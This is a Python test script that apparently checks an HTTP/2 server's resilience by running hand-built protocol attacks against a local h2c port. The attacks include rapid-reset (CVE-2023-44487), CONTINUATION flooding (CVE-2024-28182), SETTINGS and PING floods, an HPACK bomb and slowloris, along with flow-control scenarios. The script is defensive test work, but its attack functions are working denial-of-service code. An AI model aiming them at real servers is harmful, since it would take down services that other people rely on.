#!/usr/bin/python3
"""HTTP/2 attacks on a cleartext h2c port, for tests/fa-serve-h2.bats.

usage: h2attack.py PORT ATTACK [--wait SECONDS]

Attacks: rapid-reset, continuation, settings-flood, ping-flood,
settings-entries, hpack-bomb, zero-window, slowloris; and the
scenarios slow-neighbour, oversize-header, reset-running and probe
(one GET /live).

Frames are built by hand (struct) and header blocks by the hpack package
(python3-hpack from Debian), so nothing on our side enforces the rules
the attacks break.  A thread reads what the server sends for the whole
run, so our writes never deadlock against a full receive window.  One
line goes to stdout, key=value:

    goaway=0xb last_stream=1 closed=1 seconds=0.012 status=... sent=... frames=...

then a line per stream the server answered on:

    stream=3 status=200 data=37 ended=0.506

goaway is the error code of the first GOAWAY received (or "none"),
closed says whether the server closed the connection within --wait
seconds, seconds is when that happened (or when GOAWAY came, for a
server that keeps the connection open), status is the first :status;
ended is when the stream's END_STREAM came (seconds since connecting).
"""
import socket
import struct
import sys
import threading
import time

from hpack import Decoder, Encoder

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, \
    WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
NAMES = ["DATA", "HEADERS", "PRIORITY", "RST_STREAM", "SETTINGS", "PUSH_PROMISE",
         "PING", "GOAWAY", "WINDOW_UPDATE", "CONTINUATION"]


def frame(ftype, flags, sid, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", ftype, flags, sid) + payload


def settings(**kv):
    ids = {"header_table_size": 1, "max_concurrent_streams": 3,
           "initial_window_size": 4, "max_frame_size": 5}
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", ids[k], v) for k, v in kv.items()))


def request(port, path, method="GET"):
    return [(":method", method), (":scheme", "http"), (":path", path),
            (":authority", "127.0.0.1:%d" % port)]


class Peer:
    """A connection and a thread that reads and records every frame."""

    def __init__(self, port, ack_settings=True):
        self.sock = socket.create_connection(("127.0.0.1", port))
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.t0 = time.monotonic()
        self.ack_settings = ack_settings
        self.frames = {}
        self.goaway = None
        self.goaway_at = None
        self.closed_at = None
        self.status = None
        self.data_bytes = 0
        self.streams = {}
        self.sent = 0
        self.dec = Decoder()
        self.lock = threading.Lock()
        self.settled = threading.Event()    # the server's SETTINGS came (and was acked)
        self.reader = threading.Thread(target=self.read, daemon=True)
        self.reader.start()

    def send(self, data):
        """Sends, and says whether the server still took it."""
        try:
            with self.lock:
                self.sock.sendall(data)
            self.sent += len(data)
            return True
        except OSError:
            return False

    def read(self):
        buf = b""
        while True:
            try:
                chunk = self.sock.recv(65536)
            except OSError:
                chunk = b""
            if not chunk:
                self.settled.set()
                self.closed_at = time.monotonic() - self.t0
                return
            buf += chunk
            while len(buf) >= 9:
                n = int.from_bytes(buf[:3], "big")
                if len(buf) < 9 + n:
                    break
                ftype, flags, sid = buf[3], buf[4], int.from_bytes(buf[5:9], "big") & 0x7fffffff
                payload, buf = buf[9:9 + n], buf[9 + n:]
                self.on_frame(ftype, flags, sid, payload)

    def on_frame(self, ftype, flags, sid, payload):
        name = NAMES[ftype] if ftype < len(NAMES) else str(ftype)
        self.frames[name] = self.frames.get(name, 0) + 1
        if ftype == GOAWAY and self.goaway is None:
            last, code = struct.unpack(">II", payload[:8])
            self.goaway = (code, last & 0x7fffffff)
            self.goaway_at = time.monotonic() - self.t0
        elif ftype == DATA:
            self.data_bytes += len(payload)
            self.stream(sid)["data"] += len(payload)
        elif ftype == HEADERS:
            try:
                status = dict(self.dec.decode(payload)).get(":status")
            except Exception:
                status = "?"
            self.stream(sid)["status"] = status
            if self.status is None:
                self.status = status
        if ftype in (DATA, HEADERS) and flags & END_STREAM:
            self.stream(sid)["ended"] = time.monotonic() - self.t0
        elif ftype == SETTINGS and not flags & ACK and not self.settled.is_set():
            if self.ack_settings:
                self.send(frame(SETTINGS, ACK, 0))
            self.settled.set()

    def stream(self, sid):
        return self.streams.setdefault(sid, {"status": None, "data": 0, "ended": None})

    def wait(self, seconds):
        self.reader.join(seconds)

    def report(self):
        if self.goaway:
            g = "goaway=0x%x last_stream=%d" % self.goaway
        else:
            g = "goaway=none"
        when = self.closed_at if self.closed_at is not None else self.goaway_at
        print("%s closed=%d seconds=%s status=%s sent=%d data=%d frames=%s" % (
            g, self.closed_at is not None, "%.3f" % when if when is not None else "-",
            self.status, self.sent, self.data_bytes,
            ",".join("%s:%d" % kv for kv in sorted(self.frames.items()))))
        for sid, st in sorted(self.streams.items()):
            print("stream=%d status=%s data=%d ended=%s" % (
                sid, st["status"], st["data"],
                "%.3f" % st["ended"] if st["ended"] is not None else "no"))
        sys.stdout.flush()


def rapid_reset(port, p):
    """Opens streams and cancels each at once (CVE-2023-44487)."""
    enc = Encoder()
    batch = []
    for i in range(3000):
        sid = 1 + 2 * i
        block = enc.encode(request(port, "/live"))
        batch.append(frame(HEADERS, END_HEADERS | END_STREAM, sid, block))
        batch.append(frame(RST_STREAM, 0, sid, struct.pack(">I", 8)))      # CANCEL
        if len(batch) >= 200:
            if not p.send(b"".join(batch)):
                return
            batch = []
    p.send(b"".join(batch))


def continuation(port, p):
    """A header block spread over endless CONTINUATION frames (CVE-2024-28182)."""
    enc = Encoder()
    p.send(frame(HEADERS, END_STREAM, 1, enc.encode(request(port, "/live"))))
    for i in range(1000):
        if not p.send(frame(CONTINUATION, 0, 1, enc.encode([("x-c%d" % i, "v")]))):
            return


def settings_flood(port, p):
    """SETTINGS frames by the thousand, their acks never read while sending."""
    one = settings(max_concurrent_streams=100)
    for _ in range(20):
        if not p.send(one * 2000):
            return


def ping_flood(port, p):
    one = frame(PING, 0, 0, b"12345678")
    for _ in range(20):
        if not p.send(one * 2000):
            return


def hpack_bomb(port, p):
    """One big field in the dynamic table, then referenced by its index
    (a byte each) until the decoded list is far over the server's limit."""
    enc = Encoder()
    big = ("x-bomb", "a" * 4000)
    block = enc.encode(request(port, "/live") + [big] * 300)
    p.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, block))


def zero_window(port, p):
    """Stream windows of 0 and a large response asked for: the server may
    never send a byte of it, and must not wait or hold it forever."""
    p.send(settings(initial_window_size=0))
    p.send(frame(HEADERS, END_HEADERS | END_STREAM, 1,
                 Encoder().encode(request(port, "/big?n=1000000") +
                                  [("accept", "application/x-ndjson")])))


def slowloris(port, p):
    """A request whose body never comes."""
    p.send(frame(HEADERS, END_HEADERS, 1,
                 Encoder().encode(request(port, "/items", "POST") +
                                  [("content-type", "application/json")])))


def settings_entries(port, p):
    """One SETTINGS frame with more entries than the server takes."""
    p.send(frame(SETTINGS, 0, 0, struct.pack(">HI", 3, 100) * 40))


def slow_neighbour(port, p):
    """Stream 1 asks for a large stream and never opens its window; the
    connection's window is wide open.  Stream 3, a small request sent a
    moment later, must still be answered in full."""
    enc = Encoder()
    p.send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", (1 << 30))))
    p.send(frame(HEADERS, END_HEADERS | END_STREAM, 1,
                 enc.encode(request(port, "/big?n=1000000") + [("accept", "application/x-ndjson")])))
    time.sleep(0.5)
    p.send(frame(HEADERS, END_HEADERS | END_STREAM, 3, enc.encode(request(port, "/items/1"))))
    for _ in range(100):
        if p.stream(3)["ended"] is not None:
            break
        time.sleep(0.05)


def oversize_header(port, p):
    """Stream 1's header list is over the server's limit but under 4 times
    it: that stream gets 431, and stream 3 after it is served as usual."""
    enc = Encoder()
    block = enc.encode(request(port, "/live") + [("x-big", "a" * 40000)])
    chunks = [block[i:i + 16384] for i in range(0, len(block), 16384)]
    frames = []
    for i, chunk in enumerate(chunks):
        flags = (END_STREAM if i == 0 else 0) | (END_HEADERS if i == len(chunks) - 1 else 0)
        frames.append(frame(HEADERS if i == 0 else CONTINUATION, flags, 1, chunk))
    p.send(b"".join(frames))
    for _ in range(100):
        if p.stream(1)["ended"] is not None:
            break
        time.sleep(0.05)
    p.send(frame(HEADERS, END_HEADERS | END_STREAM, 3, enc.encode(request(port, "/live"))))
    for _ in range(100):
        if p.stream(3)["ended"] is not None:
            break
        time.sleep(0.05)


def reset_running(port, p):
    """Stream 1's query runs when the client resets it; stream 3's still
    runs when the client goes (after --wait): the server must finish both
    queries with neither stream nor connection left to answer on."""
    enc = Encoder()
    p.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, enc.encode(request(port, "/sleepy?s=1"))))
    p.send(frame(HEADERS, END_HEADERS | END_STREAM, 3,
                 enc.encode(request(port, "/sleepy?s=3") + [("accept-encoding", "gzip")])))
    time.sleep(0.2)
    p.send(frame(RST_STREAM, 0, 1, struct.pack(">I", 8)))


def probe(port, p):
    p.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, Encoder().encode(request(port, "/live"))))


ATTACKS = {"rapid-reset": rapid_reset, "continuation": continuation,
           "settings-flood": settings_flood, "ping-flood": ping_flood,
           "hpack-bomb": hpack_bomb, "zero-window": zero_window,
           "slowloris": slowloris, "settings-entries": settings_entries,
           "slow-neighbour": slow_neighbour, "oversize-header": oversize_header,
           "reset-running": reset_running,           "probe": probe}


def main(argv):
    if len(argv) < 3 or argv[2] not in ATTACKS:
        sys.exit("usage: h2attack.py PORT ATTACK [--wait SECONDS]\nattacks: " +
                 ", ".join(ATTACKS))
    port = int(argv[1])
    wait = float(argv[4]) if len(argv) > 4 and argv[3] == "--wait" else 5.0
    floods = argv[2] in ("settings-flood", "ping-flood")
    p = Peer(port, ack_settings=not floods)
    # attacks start once the server's SETTINGS is acked: an ack of ours
    # must not land inside a header block
    if p.send(PREFACE + settings()) and p.settled.wait(3):
        ATTACKS[argv[2]](port, p)
    p.wait(wait)
    p.report()
    p.sock.close()


if __name__ == "__main__":
    main(sys.argv)
